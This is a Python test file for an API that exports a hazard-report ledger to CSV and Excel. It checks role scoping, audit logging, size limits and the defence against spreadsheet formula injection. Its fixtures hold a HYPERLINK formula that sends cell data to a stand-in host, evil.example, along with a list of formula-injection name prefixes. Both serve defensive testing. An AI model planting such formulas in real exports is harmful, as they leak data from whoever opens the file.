"""The hazard ledger export: Excel and CSV content with Chinese headers (English on request),
a UTF-8 BOM for Excel, scoped to the caller's area and period, bounded, audited; and the page
that links to it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from xml.etree import ElementTree

import openpyxl
import pytest
from factories import G1, G3, T1, T2, file_report, make_person, make_tree

from grid_backend.core import clock
from grid_backend.core.tables import AuditEntry
from grid_backend.people.tables import Account
from grid_backend.stats import ledger

NOW = datetime(2026, 5, 10, 2, 0, tzinfo=UTC)  # 10:00 in Shanghai
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture
async def world(client):
    clock.set_clock(lambda: NOW)
    await make_tree()
    resident = await make_person(name="居民甲")
    dispatcher = await make_person(("dispatcher", T1), name="李值班")
    cases = [
        (await file_report(client, resident, description=f'第{i}处隐患，含逗号, 和"引号"'))["id"]
        for i in range(3)
    ]
    other = (await file_report(client, resident, grid=G3))["id"]
    return client, resident, dispatcher, cases, other


def rows_of_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def rows_of_xlsx(body: bytes) -> list[list[str]]:
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():
            root = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))  # noqa: S314 - ours
            shared = ["".join(t.text or "" for t in si.iter(f"{MAIN}t")) for si in root]
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - ours
    rows = []
    for row in sheet.iter(f"{MAIN}row"):
        cells = []
        for c in row.iter(f"{MAIN}c"):
            if c.get("t") == "s":
                cells.append(shared[int(c.find(f"{MAIN}v").text)])
            elif c.get("t") == "inlineStr":
                cells.append("".join(t.text or "" for t in c.iter(f"{MAIN}t")))
            else:
                v = c.find(f"{MAIN}v")
                cells.append(v.text if v is not None else "")
        rows.append(cells)
    return rows


async def test_csv_has_a_bom_chinese_headers_and_the_callers_cases(world):
    client, _resident, dispatcher, cases, _other = world
    r = await client.get(
        "/api/v1/reports/export",
        params={"format": "csv", "from": "2026-05-10", "to": "2026-05-10"},
        headers=dispatcher.headers,
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    assert (
        "filename*=UTF-8''%E9%9A%90%E6%82%A3%E5%8F%B0%E8%B4%A6" in r.headers["content-disposition"]
    )
    rows = rows_of_csv(r.content)
    assert rows[0][:6] == ["案件编号", "上报时间", "上报渠道", "隐患类别", "隐患等级", "办理状态"]
    assert len(rows[0]) == len(ledger.COLUMNS)
    assert [int(row[0]) for row in rows[1:]] == cases  # not the other township's case
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["上报时间"] == "2026-05-10 10:00"  # local time
    assert first["办理状态"] == "待受理"
    assert first["问题描述"] == '第0处隐患，含逗号, 和"引号"'
    assert first["上报人电话"].count("*") == 4  # masked
    assert first["镇街"] == "解放碑街道" and first["网格"] == "第一网格"
    assert first["是否超期"] == "否"
    assert r.headers["x-row-count"] == "3"

    english = await client.get(
        "/api/v1/reports/export",
        params={"format": "csv", "lang": "en", "from": "2026-05-10", "to": "2026-05-10"},
        headers=dispatcher.headers,
    )
    rows = rows_of_csv(english.content)
    assert rows[0][:3] == ["Case", "Reported", "Channel"]
    assert rows[1][5] == "Submitted"


async def test_xlsx_opens_with_the_same_rows(world):
    client, _resident, dispatcher, cases, _other = world
    r = await client.get(
        "/api/v1/reports/export",
        params={"format": "xlsx", "from": "2026-05-01", "to": "2026-05-31"},
        headers=dispatcher.headers,
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert int(r.headers["content-length"]) == len(r.content)
    rows = rows_of_xlsx(r.content)
    assert rows[0][:2] == ["案件编号", "上报时间"]
    assert [int(row[0]) for row in rows[1:]] == cases
    assert rows[1][7] == '第0处隐患，含逗号, 和"引号"'


async def test_export_is_scoped_bounded_and_audited(world, monkeypatch):
    client, resident, dispatcher, cases, other = world
    period = {"from": "2026-05-10", "to": "2026-05-10"}
    r = await client.get("/api/v1/reports/export", params=period, headers=resident.headers)
    assert (r.status_code, r.json()["code"]) == (403, "forbidden")
    other_township = await make_person(("dispatcher", T2))
    r = await client.get(
        "/api/v1/reports/export", params={**period, "format": "csv"}, headers=other_township.headers
    )
    assert [int(row[0]) for row in rows_of_csv(r.content)[1:]] == [other]
    grid_leader = await make_person(("grid_leader", G1))
    r = await client.get(
        "/api/v1/reports/export", params={**period, "format": "csv"}, headers=grid_leader.headers
    )
    assert [int(row[0]) for row in rows_of_csv(r.content)[1:]] == cases
    r = await client.get(
        "/api/v1/reports/export",
        params={"format": "csv", "from": "2026-05-11", "to": "2026-05-12"},
        headers=dispatcher.headers,
    )
    assert rows_of_csv(r.content)[1:] == []  # another period: nothing

    audits = await AuditEntry.select().where(AuditEntry.action == "report.export").run()
    assert len(audits) == 3  # the refused one is not an export
    assert {a["actor_id"] for a in audits} == {other_township.id, grid_leader.id, dispatcher.id}

    monkeypatch.setattr(ledger, "MAX_ROWS", 2)
    r = await client.get(
        "/api/v1/reports/export", params={**period, "format": "csv"}, headers=dispatcher.headers
    )
    assert (r.status_code, r.json()["code"]) == (422, "export_too_large")


async def test_the_exports_page_links_to_the_api(world):
    client, _resident, dispatcher, _cases, _other = world
    client.cookies.set("grid_access", dispatcher.token)
    page = await client.get("/console/exports")
    assert page.status_code == 200
    assert 'action="/api/v1/reports/export"' in page.text
    assert re.search(r'name="from" value="2026-04-11"', page.text)
    assert 'value="xlsx"' in page.text and 'value="csv"' in page.text
    # the browser's download: the GET carries the console cookie, no CSRF needed
    r = await client.get(
        "/api/v1/reports/export", params={"format": "csv", "from": "2026-05-10", "to": "2026-05-10"}
    )
    assert r.status_code == 200
    assert len(rows_of_csv(r.content)) == 4


HOSTILE_DESCRIPTION = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
HOSTILE_NAMES = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.fixture
async def hostile(client):
    """One case whose description is a formula, and one case per reporter named like one."""
    clock.set_clock(lambda: NOW)
    await make_tree()
    dispatcher = await make_person(("dispatcher", T1), name="李值班")
    first = await make_person(name="居民甲")
    cases = [(await file_report(client, first, description=HOSTILE_DESCRIPTION))["id"]]
    for name in HOSTILE_NAMES:
        reporter = await make_person(name="居民")
        # written as stored, past the API's trimming: the export must not trust the column
        await Account.update({Account.name: name}).where(Account.id == reporter.id).run()
        cases.append((await file_report(client, reporter))["id"])
    return client, dispatcher, cases


def unescape_ooxml(text: str) -> str:
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), text)


async def test_xlsx_writes_user_text_as_text_and_times_as_local_datetimes(hostile):
    client, dispatcher, cases = hostile
    r = await client.get(
        "/api/v1/reports/export",
        params={"format": "xlsx", "from": "2026-05-10", "to": "2026-05-10"},
        headers=dispatcher.headers,
    )
    assert r.status_code == 200, r.text
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(cases)
    col = {key: i for i, (key, *_) in enumerate(ledger.COLUMNS)}
    description = rows[0][col["description"]]
    assert description.data_type == "s" and description.value == HOSTILE_DESCRIPTION
    for row, name in zip(rows[1:], HOSTILE_NAMES, strict=True):
        reporter = row[col["reporter"]]
        assert reporter.data_type == "s", (name, reporter.data_type)
        # the text itself, not a formula nor its result (openpyxl leaves OOXML's _x000D_
        # escape of a control character as it is; Excel reads it back as the character)
        assert unescape_ooxml(reporter.value) == name
    for row in rows:
        assert all(cell.data_type != "f" for cell in row)
        reported = row[col["created_at"]]
        assert reported.is_date and reported.value == datetime(2026, 5, 10, 10, 0)  # Shanghai
        # real numbers stay numbers
        assert row[col["id"]].data_type == "n" and row[col["id"]].value in cases
        assert row[col["lat"]].data_type == "n" and row[col["supporters"]].value == 0
    # no formula anywhere in the file, not even a cached one
    with zipfile.ZipFile(io.BytesIO(r.content)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")


async def test_csv_neutralises_cells_that_a_spreadsheet_would_run(hostile):
    client, dispatcher, cases = hostile
    r = await client.get(
        "/api/v1/reports/export",
        params={"format": "csv", "from": "2026-05-10", "to": "2026-05-10"},
        headers=dispatcher.headers,
    )
    assert r.status_code == 200, r.text
    rows = rows_of_csv(r.content)[1:]
    col = {key: i for i, (key, *_) in enumerate(ledger.COLUMNS)}
    assert [int(row[col["id"]]) for row in rows] == cases  # ids stay plain numbers
    assert rows[0][col["description"]] == "'" + HOSTILE_DESCRIPTION
    assert [row[col["reporter"]] for row in rows[1:]] == ["'" + n for n in HOSTILE_NAMES]
    assert all(row[col["created_at"]] == "2026-05-10 10:00" for row in rows)
    assert float(rows[0][col["lat"]]) == pytest.approx(29.52)  # coordinates stay numbers


def test_safe_csv_text_leaves_ordinary_text_alone():
    assert ledger.safe_csv_text("燃气管道漏气 -1") == "燃气管道漏气 -1"
    assert ledger.safe_csv_text("") == ""
    assert ledger.safe_csv_text("-1") == "'-1"
    assert ledger.csv_cell(-1) == -1 and ledger.csv_cell(2.5) == 2.5
